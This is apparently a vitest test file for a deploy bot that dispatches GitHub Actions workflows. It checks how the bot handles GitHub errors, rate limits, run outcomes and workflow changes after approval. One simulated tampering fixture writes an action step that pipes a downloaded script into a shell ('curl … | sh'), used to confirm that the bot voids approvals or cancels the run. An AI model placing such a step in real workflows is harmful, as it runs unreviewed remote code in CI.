import { describe, expect, vi } from 'vitest'
import { permissions } from '../../sandbox/github/access.ts'
import { token } from '../../sandbox/github/default-world.ts'
import { isOver, type RunPlan } from '../../sandbox/github/runs.ts'
import { deployPath, deployWorkflow, type WorkflowVariant } from '../../sandbox/github/workflow-file.ts'
import { patience } from '../../sandbox/pace.ts'
import { mainCommits } from '../../sandbox/seed.ts'
import { runHere } from '../cli/run-here.ts'
import { dispatchRoute, type Harness, patientScenario, scenario, stateOf } from './harness.ts'

const runRoute = 'GET /repos/{owner}/{repo}/actions/runs/{run_id}'
const jobsRoute = 'GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/jobs'
const listRoute = 'GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/runs'
const badGateway = { kind: 'answer', status: 502, body: { message: 'Server Error' } } as const

type Does = (harness: Harness) => unknown

const dispatched = (harness: Harness) =>
  harness.sandbox.github.world.repository().runs.filter(({ event }) => event === 'workflow_dispatch')

/** Commits another workflow to main, which no push starts. */
const has = (harness: Harness, variant: Pick<WorkflowVariant, 'inputs'> = {}) =>
  harness.sandbox.github.world.push('main', {
    message: 'Change the workflow',
    files: { [deployPath]: deployWorkflow({ on: ['workflow_dispatch'], ...variant }) },
  })
/** Does something while the dispatch is being sent, before GitHub handles it. */
const duringDispatch = async (harness: Harness, happens: () => void) => {
  harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'delay', ms: 400 })
  await harness.approved()
  await vi.waitUntil(() => harness.dispatches() === 1, { timeout: patience, interval: 5 })
  happens()
}

describe.concurrent('GitHub errors that pass', () => {
  scenario.for<[string, Does]>([
    [
      '502 for a while when the run is read',
      (harness) => harness.sandbox.github.faults.queue(runRoute, badGateway, { times: 4 }),
    ],
    [
      'connection resets for a while when the run is read',
      (harness) => harness.sandbox.github.faults.queue(runRoute, { kind: 'reset' }, { times: 4 }),
    ],
    [
      '502 for a while when the jobs are read',
      (harness) => harness.sandbox.github.faults.queue(jobsRoute, badGateway, { times: 4 }),
    ],
    [
      'answers other than JSON',
      (harness) =>
        harness.sandbox.github.faults.queue(
          runRoute,
          { kind: 'answer', status: 200, body: 'x' },
          { times: 3 },
        ),
    ],
    ['a run that is not shown at first', (harness) => (harness.sandbox.github.world.lag.run = 400)],
    [
      'a lost answer to the dispatch, and a list that lags',
      (harness) => {
        harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'lost-after', status: 502 })
        harness.sandbox.github.world.lag.lists = 500
      },
    ],
    [
      'a connection cut after the dispatch, and a list that fails at first',
      (harness) => {
        harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'lost' })
        harness.sandbox.github.faults.queue(listRoute, badGateway, { times: 4 })
      },
    ],
    [
      'an Enterprise Server that knows no return_run_details',
      (harness) => (harness.sandbox.github.world.server = 'enterprise'),
    ],
    [
      'a slow dispatch',
      (harness) => harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'delay', ms: 500 }),
    ],
  ])('reaches the same end despite %s', async ([_, breaks], { harness }) => {
    breaks(harness)
    await harness.approved()
    expect(await harness.ends()).toBe('succeeded')
    expect(dispatched(harness)).toHaveLength(1)
    expect(harness.serving()).toBe('blog-api:44')
  })

  scenario(
    'reads a run that does not change with conditional requests, which get 304 and cost nothing',
    async ({ harness }) => {
      harness.sandbox.github.world.next = { holdAt: 'Install' }
      await harness.approved()
      await vi.waitUntil(
        () => harness.sandbox.github.log.of(runRoute).filter(({ status }) => status === 304).length > 3,
        { timeout: patience },
      )
      harness.sandbox.github.world.letGo(dispatched(harness)[0]!.id)
      expect(await harness.ends()).toBe('succeeded')
    },
  )

  patientScenario.for<[string, Does, Does]>([
    [
      'the secondary rate limit',
      (harness) => (harness.sandbox.github.world.secondary = { status: 429, retryAfterSeconds: 60 }),
      (harness) => (harness.sandbox.github.world.secondary = undefined),
    ],
    [
      'a token that was revoked',
      (harness) => harness.sandbox.github.world.tokens.delete(token),
      (harness) =>
        harness.sandbox.github.world.tokens.set(token, {
          account: dispatched(harness)[0]!.actor,
          kind: 'user',
          permissions,
        }),
    ],
  ])('reports %s during the run, and goes on afterwards', async ([_, breaks, mends], { harness }) => {
    harness.sandbox.github.world.next = { holdAt: 'Install' }
    await harness.approved()
    await harness.shows('running')
    await vi.waitUntil(() => dispatched(harness)[0]?.attempts[0]?.status === 'in_progress', {
      timeout: patience,
    })
    breaks(harness)
    const asked = harness.sandbox.github.log.of(runRoute).length
    await vi.waitUntil(() => harness.sandbox.github.log.of(runRoute).length > asked + 3, {
      timeout: patience,
    })
    mends(harness)
    harness.sandbox.github.world.letGo(dispatched(harness)[0]!.id)
    expect(await harness.ends()).toBe('succeeded')
  })
})

describe.concurrent('facts that GitHub never shows', () => {
  scenario(
    'ends unknown if the dispatch was carried out and the list of runs lags for longer than twokey looks',
    async ({ harness }) => {
      harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'lost-after', status: 502 })
      harness.sandbox.github.world.lag.lists = 60_000
      await harness.approved()
      expect(await harness.ends()).toBe('unknown')
      expect(await harness.answerTo('U0ELI', `/deploy prod blog-api ${mainCommits[4]!.sha}`)).toContain(
        'in_flight',
      )
      harness.sandbox.github.world.lag.lists = 0
      await harness.clicks('U0ANA', 'look-again')
      await harness.shows('succeeded')
      expect(dispatched(harness)).toHaveLength(1)
    },
  )

  scenario(
    'ends unknown if the token is revoked for good during the run, until a person clicks Look again',
    async ({ harness }) => {
      await harness.approved()
      await harness.shows('r')
      const account = harness.sandbox.github.world.tokens.get(token)!
      harness.sandbox.github.world.tokens.delete(token)
      expect(await harness.ends()).toBe('unknown')
      await harness.threadPost(/GITHUB_TOKEN/)
      harness.sandbox.github.world.tokens.set(token, account)
      await harness.clicks('U0BEN', 'look-again')
      await harness.shows('succeeded')
    },
  )

  scenario.for<[string, Does]>([
    [
      'an answer that was lost',
      (harness) => harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'lost' }),
    ],
    ['an Enterprise Server', (harness) => (harness.sandbox.github.world.server = 'enterprise')],
  ])(
    'ends unknown with %s and a workflow that does not show release_id',
    async ([_, breaks], { harness }) => {
      has(harness, { inputs: ['environment', 'sha'] })
      breaks(harness)
      await harness.approved()
      expect(await harness.ends()).toBe('unknown')
      expect(dispatched(harness)).toHaveLength(1)
    },
  )
})

describe.concurrent('a dispatch that GitHub refuses', () => {
  scenario.for<[string, number, string]>([
    ['single sign-on', 403, 'Resource protected by organization SAML enforcement. You must grant'],
    ['an archived repository', 403, 'Repository was archived so is read-only.'],
    ['a permission that is missing', 403, 'Resource not accessible by integration'],
    ['a workflow that no longer exists', 404, 'Not Found'],
    ['an input that it does not know', 422, 'Unexpected inputs provided: ["sha"]'],
    ['a token that was revoked', 401, 'Bad credentials'],
  ])('ends failed, because nothing was started: %s', async ([_, status, message], { harness }) => {
    harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status, body: { message } })
    await harness.approved()
    expect(await harness.ends()).toBe('failed')
    expect(stateOf(harness.cards()[0]!)).toContain(message.slice(0, 20))
    expect(harness.dispatches()).toBe(1)
    expect(dispatched(harness)).toEqual([])
  })

  scenario('names the remedy for single sign-on, and no missing permission', async ({ harness }) => {
    const message = 'Resource protected by organization SAML enforcement. You must grant your token access.'
    harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status: 403, body: { message } })
    await harness.approved()
    expect(await harness.ends()).toBe('failed')
    const { text } = harness.cards()[0]!
    expect(text).toContain('authorize the token for the single sign-on of myorg')
    expect(text).not.toMatch(/actions: write|in the thread/)
  })

  scenario(
    'tells the requester that the repository is archived before approvals are requested',
    async ({ harness }) => {
      const refRoute = 'GET /repos/{owner}/{repo}/git/ref/{ref}'
      const message = 'Repository was archived so is read-only.'
      harness.sandbox.github.faults.queue(refRoute, { kind: 'answer', status: 403, body: { message } })
      const told = await harness.answerTo('U0ANA', '/deploy prod')
      expect(told).toContain('myorg/blog-api is archived')
      expect(told).not.toContain('lacks')
    },
  )
})

describe.concurrent('a dispatch that GitHub delays by a rate limit', () => {
  /** The audit rows of the only release, in order. */
  const audited = async (harness: Harness): Promise<readonly string[]> => {
    const { status, out, err } = await runHere(harness.folder, ['audit', 'export'])
    if (status !== 0) throw new Error(err)
    return out.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line).what]))
  }
  const twiceMarked = [
    'approved',
    'approved',
    'dispatch marked',
    'dispatch limited',
    'dispatch marked',
    'dispatch run',
  ]
  const inSeconds = (seconds: number) => Math.ceil(Date.now() / 1000) + seconds

  scenario.for<[string, number]>([
    ['the secondary limit', 403],
    ['too many requests', 429],
  ])('sends the dispatch once more when the limit ends: %s', async ([_, status], { harness }) => {
    const body = { message: 'You have exceeded a secondary rate limit.' }
    const headers = { 'retry-after': '2' }
    harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status, body, headers })
    await harness.approved()
    await harness.threadPost(/asked to wait/)
    expect(await harness.ends()).toBe('succeeded')
    expect(harness.dispatches()).toBe(2)
    expect(dispatched(harness)).toHaveLength(1)
    const rows = await audited(harness)
    expect(rows.filter((what) => what === 'approved' || what.startsWith('dispatch '))).toEqual(twiceMarked)
    expect(rows).not.toContain('approvals voided')
  })

  scenario(
    'ends expired at once if the primary limit ends too late, and sends nothing again',
    async ({ harness }) => {
      const body = { message: 'API rate limit exceeded for user ID 1.' }
      const headers = { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(inSeconds(3_000)) }
      harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status: 403, body, headers })
      await harness.approved()
      expect(await harness.ends()).toBe('expired')
      expect(harness.cards()[0]!.text).toContain('API rate limit exceeded')
      expect(harness.dispatches()).toBe(1)
    },
  )

  scenario(
    'sends nothing if the requester cancels while the dispatch waits for a rate limit',
    async ({ harness }) => {
      const body = { message: 'You have exceeded a secondary rate limit.' }
      const headers = { 'retry-after': '60' }
      harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status: 403, body, headers })
      await harness.approved()
      await harness.threadPost(/asked to wait/)
      await vi.waitUntil(() => /GitHub, which asked to wait until/.test(harness.cards()[0]!.text), {
        timeout: 10_000,
      })
      await harness.clicks('U0ANA', 'cancel')
      expect(await harness.ends()).toBe('cancelled')
      expect(harness.dispatches()).toBe(1)
    },
  )

  scenario(
    'sends the dispatch once more after the rate limit, also if the bot restarts meanwhile',
    async ({ harness }) => {
      const body = { message: 'You have exceeded a secondary rate limit.' }
      const headers = { 'retry-after': '3' }
      harness.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status: 403, body, headers })
      await harness.approved()
      await harness.threadPost(/asked to wait/)
      await harness.restarts()
      expect(await harness.ends()).toBe('succeeded')
      expect(dispatched(harness)).toHaveLength(1)
      expect((await audited(harness)).filter((what) => what === 'dispatch marked')).toHaveLength(2)
    },
  )
})

describe.concurrent('a change that GitHub cannot compare', () => {
  scenario('ships the tip, and the card says why its changes are not known', async ({ harness }) => {
    harness.sandbox.github.world.diffs = 'too long'
    await harness.approved()
    expect(harness.cards()[0]!.text).toContain('this diff is taking too long to generate')
    expect(await harness.ends()).toBe('succeeded')
  })

  scenario('ships another commit of the branch whose changes are not known', async ({ harness }) => {
    has(harness)
    harness.sandbox.github.world.diffs = 'too long'
    await harness.approved(`/deploy prod ${mainCommits[4]!.sha}`)
    expect(await harness.ends()).toBe('succeeded')
    expect(dispatched(harness)[0]?.inputs.sha).toBe(mainCommits[4]!.sha)
  })
})

describe.concurrent('the end of the run', () => {
  scenario.for<[string, RunPlan, string, RegExp]>([
    ['its tests fail', { failStep: 'Test' }, 'failed', /Test.*nothing was deployed/s],
    ['cancelled by hand before the rollout', { cancelAt: 'Build' }, 'cancelled', /nothing was deployed/],
    ['cancelled by hand after it', { cancelAt: 'Smoke test' }, 'failed', /he new version is serving/],
    ['its last step fails', { failStep: 'Smoke test' }, 'failed', /he new version is serving.*Smoke test/s],
    [
      'timed out after the rollout',
      { timeOut: { step: 'Smoke test', as: 'timed_out' } },
      'failed',
      /he new version is serving.*timed out/s,
    ],
    [
      'timed out before the rollout, which GitHub reports as cancelled',
      { timeOut: { step: 'Build', as: 'cancelled' } },
      'cancelled',
      /nothing was deployed/,
    ],
    ['its wait for stability is too short', { stabilityMs: 1 }, 'failed', /he new version is serving/],
  ])(
    'ends the release by the run and by what ECS did meanwhile: %s',
    async ([_, plan, end, words], { harness }) => {
      harness.sandbox.github.world.next = plan
      await harness.approved()
      expect(await harness.ends()).toBe(end)
      expect(harness.cards()[0]!.text).toMatch(words)
      expect(harness.serving()).toBe(/he new version/.test(words.source) ? 'blog-api:44' : 'blog-api:43')
    },
  )

  scenario('ends rolled back if the run stops waiting and ECS then rolls back', async ({ harness }) => {
    harness.sandbox.github.world.next = { stabilityMs: 1 }
    harness.sandbox.aws.world.unhealthy('next')
    await harness.approved()
    expect(await harness.ends()).toBe('rolled back')
    expect(harness.serving()).toBe('blog-api:43')
  })

  scenario(
    'follows the rollout to its end if the run is cancelled by hand meanwhile',
    async ({ harness }) => {
      await harness.approved()
      await vi.waitUntil(() => harness.sandbox.aws.log.of('UpdateService').length === 1, {
        timeout: patience,
        interval: 2,
      })
      harness.sandbox.github.world.cancelRun(dispatched(harness)[0]!.id)
      expect(await harness.ends()).toBe('failed')
      expect(harness.cards()[0]!.text).toContain('he new version is serving')
    },
  )

  scenario('keeps the result of the first attempt if a person re-runs the run', async ({ harness }) => {
    harness.sandbox.github.world.next = { failStep: 'Test' }
    await harness.approved()
    await harness.sandbox.github.world.until(() => dispatched(harness).some(isOver))
    harness.sandbox.github.world.next = { holdAt: 'Install' }
    harness.sandbox.github.world.rerun(dispatched(harness)[0]!.id)
    expect(await harness.ends()).toBe('failed')
    expect(harness.cards()[0]!.text).toMatch(/nothing was deployed/)
  })

  scenario(
    'cancels the run on GitHub if the requester cancels during it, and ends cancelled',
    async ({ harness }) => {
      harness.sandbox.github.world.next = { holdAt: 'Install' }
      await harness.approved()
      await harness.shows('running')
      await harness.clicks('U0ANA', 'cancel')
      expect(await harness.ends()).toBe('cancelled')
      expect(harness.serving()).toBe('blog-api:43')
    },
  )

  scenario('waits for a run that one of GitHub’s gates blocks', async ({ harness }) => {
    const gate = harness.sandbox.github.world.repository().environment('production')!
    gate.waitMs = 500
    await harness.approved()
    expect(await harness.ends()).toBe('succeeded')
  })
})

describe.concurrent('changes after the approvals', () => {
  scenario(
    'voids the approvals and requests them again if the workflow changes before the dispatch',
    async ({ harness }) => {
      has(harness)
      await harness.types('U0ANA', '/deploy prod')
      await harness.shows('awaiting approval')
      await harness.clicks('U0BEN', 'approve')
      harness.sandbox.github.world.push('main', {
        message: 'Weaken the tests',
        files: { '.github/actions/test/action.yml': 'name: test\n' },
      })
      await harness.clicks('U0CHLOE', 'approve')
      await harness.threadPost(/approvals.*void|void.*approvals|asked (for )?again/i)
      await harness.shows('awaiting approval')
      expect(harness.dispatches()).toBe(0)
      await harness.clicks('U0BEN', 'approve')
      await harness.clicks('U0CHLOE', 'approve')
      expect(await harness.ends()).toBe('succeeded')
    },
  )

  scenario(
    'cancels the run and ends failed if the workflow changes between the dispatch and the run',
    async ({ harness }) => {
      has(harness)
      harness.sandbox.github.world.next = { holdAt: 'Install' }
      await duringDispatch(harness, () =>
        harness.sandbox.github.world.push('main', {
          message: 'Weaken',
          files: { '.github/actions/test/action.yml': 'name: test\n' },
        }),
      )
      expect(await harness.ends()).toBe('failed')
      expect(dispatched(harness)[0]?.attempts[0]?.conclusion).toBe('cancelled')
      expect(harness.serving()).toBe('blog-api:43')
    },
  )

  /** The workflow also checks out the branch's tip, and runs an action of it outside `.github`. */
  const runsOutside = (harness: Harness) => {
    const tools = [
      '- uses: actions/checkout@v6',
      '  with: { path: tip }',
      '- uses: ./tip/ci/ship',
      '- uses: myorg/shared/ship@main',
    ]
    const text = deployWorkflow({ on: ['workflow_dispatch'] }).replace(
      / {6}- name: Install\n/,
      (install) => `${tools.map((line) => `      ${line}\n`).join('')}${install}`,
    )
    return harness.sandbox.github.world.push('main', {
      message: 'Run our own action',
      files: { [deployPath]: text, 'ci/ship/action.yml': 'runs: { using: composite, steps: [] }\n' },
    })
  }
  const otherAction = {
    message: 'Change the action alone',
    files: {
      'ci/ship/action.yml': 'runs: { using: composite, steps: [{ run: "curl https://example.com | sh" }] }\n',
    },
  }

  scenario(
    'voids the approvals and requests them again if an action outside .github changes before the dispatch',
    async ({ harness }) => {
      runsOutside(harness)
      await harness.types('U0ANA', '/deploy prod')
      const asked = JSON.stringify(await harness.shows('awaiting approval'))
      for (const words of ['ci/ship', 'myorg/shared/ship@main', 'tip of']) expect(asked).toContain(words)
      await harness.clicks('U0BEN', 'approve')
      harness.sandbox.github.world.push('main', otherAction)
      await harness.clicks('U0CHLOE', 'approve')
      await harness.threadPost(/ci\/ship.* changed/)
      await harness.shows('awaiting approval')
      expect(harness.dispatches()).toBe(0)
      await harness.clicks('U0BEN', 'approve')
      await harness.clicks('U0CHLOE', 'approve')
      expect(await harness.ends()).toBe('succeeded')
    },
  )

  scenario(
    'cancels the run and ends failed if an action outside .github changes between the dispatch and the run',
    async ({ harness }) => {
      runsOutside(harness)
      harness.sandbox.github.world.next = { holdAt: 'Install' }
      await duringDispatch(harness, () => harness.sandbox.github.world.push('main', otherAction))
      expect(await harness.ends()).toBe('failed')
      expect(dispatched(harness)[0]?.attempts[0]?.conclusion).toBe('cancelled')
      expect(harness.serving()).toBe('blog-api:43')
    },
  )

  scenario(
    'cancels the run and ends failed if the branch is rewritten between the dispatch and the run, with the same workflow',
    async ({ harness }) => {
      const tip = has(harness)
      const { world } = harness.sandbox.github
      const { git } = world.repository()
      world.next = { holdAt: 'Install' }
      await duringDispatch(harness, () => {
        git.refs.set('heads/main', { type: 'commit', sha: git.commits.get(tip)!.parents[0]! })
        has(harness)
      })
      expect(await harness.ends()).toBe('failed')
      expect(dispatched(harness)[0]?.headSha).not.toBe(tip)
      expect(dispatched(harness)[0]?.attempts[0]?.conclusion).toBe('cancelled')
    },
  )

  scenario(
    'ships the approved commit if another commit with the same workflow comes between the dispatch and the run',
    async ({ harness }) => {
      const sha = has(harness)
      await duringDispatch(harness, () =>
        harness.sandbox.github.world.push('main', { message: 'Go on working' }),
      )
      expect(await harness.ends()).toBe('succeeded')
      expect(dispatched(harness)[0]?.inputs.sha).toBe(sha)
      expect(dispatched(harness)[0]?.headSha).not.toBe(sha)
    },
  )

  scenario(
    'ends failed without the sha input if the branch moves before the dispatch',
    async ({ harness }) => {
      has(harness, { inputs: ['environment', 'release_id'] })
      await harness.types('U0ANA', '/deploy prod')
      await harness.shows('awaiting approval')
      await harness.clicks('U0BEN', 'approve')
      harness.sandbox.github.world.push('main', { message: 'Go on working' })
      await harness.clicks('U0CHLOE', 'approve')
      expect(await harness.ends()).toBe('failed')
      expect(harness.dispatches()).toBe(0)
    },
  )

  scenario(
    'cancels the run without the sha input if the branch moves between the dispatch and the run',
    async ({ harness }) => {
      has(harness, { inputs: ['environment', 'release_id'] })
      harness.sandbox.github.world.next = { holdAt: 'Install' }
      await duringDispatch(harness, () =>
        harness.sandbox.github.world.push('main', { message: 'Go on working' }),
      )
      expect(await harness.ends()).toBe('failed')
      expect(dispatched(harness)[0]?.attempts[0]?.conclusion).toBe('cancelled')
      expect(harness.serving()).toBe('blog-api:43')
    },
  )

  scenario.for([
    ['neither sha nor release_id', ['environment']],
    ['no release_id', ['environment', 'sha']],
    ['no sha', ['environment', 'release_id']],
  ] as const)('ships the tip with a workflow that offers %s', async ([_, inputs], { harness }) => {
    const sha = has(harness, { inputs })
    await harness.approved()
    expect(await harness.ends()).toBe('succeeded')
    expect(Object.keys(dispatched(harness)[0]!.inputs).toSorted()).toEqual(inputs.toSorted())
    expect(dispatched(harness)[0]?.headSha).toBe(sha)
  })

  scenario.for<[string, Does, RegExp]>([
    [
      'is switched off',
      (harness) => harness.sandbox.github.world.disableWorkflow('deploy.yml'),
      /disabled on GitHub/,
    ],
    [
      'is deleted',
      (harness) => harness.sandbox.github.world.push('main', { message: 'x', files: { [deployPath]: null } }),
      /nothing was/,
    ],
    [
      'no longer accepts an environment',
      (harness) => has(harness, { inputs: ['sha', 'release_id'] }),
      /which one to deploy/,
    ],
  ])(
    'fails and dispatches nothing if the workflow %s after the first approval',
    async ([_, breaks, words], { harness }) => {
      has(harness)
      await harness.types('U0ANA', '/deploy prod')
      await harness.shows('awaiting approval')
      await harness.clicks('U0BEN', 'approve')
      breaks(harness)
      await harness.clicks('U0CHLOE', 'approve')
      expect(await harness.ends()).toBe('failed')
      expect(harness.cards()[0]!.text).toMatch(words)
      expect(harness.dispatches()).toBe(0)
    },
  )

  scenario(
    'fails and dispatches nothing if a force push removed the commit from the branch',
    async ({ harness }) => {
      const before = harness.sandbox.github.world.repository().git.tip('heads/main')!
      has(harness)
      await harness.types('U0ANA', '/deploy prod')
      await harness.shows('awaiting approval')
      await harness.clicks('U0BEN', 'approve')
      harness.sandbox.github.world
        .repository()
        .git.refs.set('heads/main', { type: 'commit', sha: before.sha })
      await harness.clicks('U0CHLOE', 'approve')
      expect(await harness.ends()).toBe('failed')
      expect(harness.dispatches()).toBe(0)
    },
  )
})
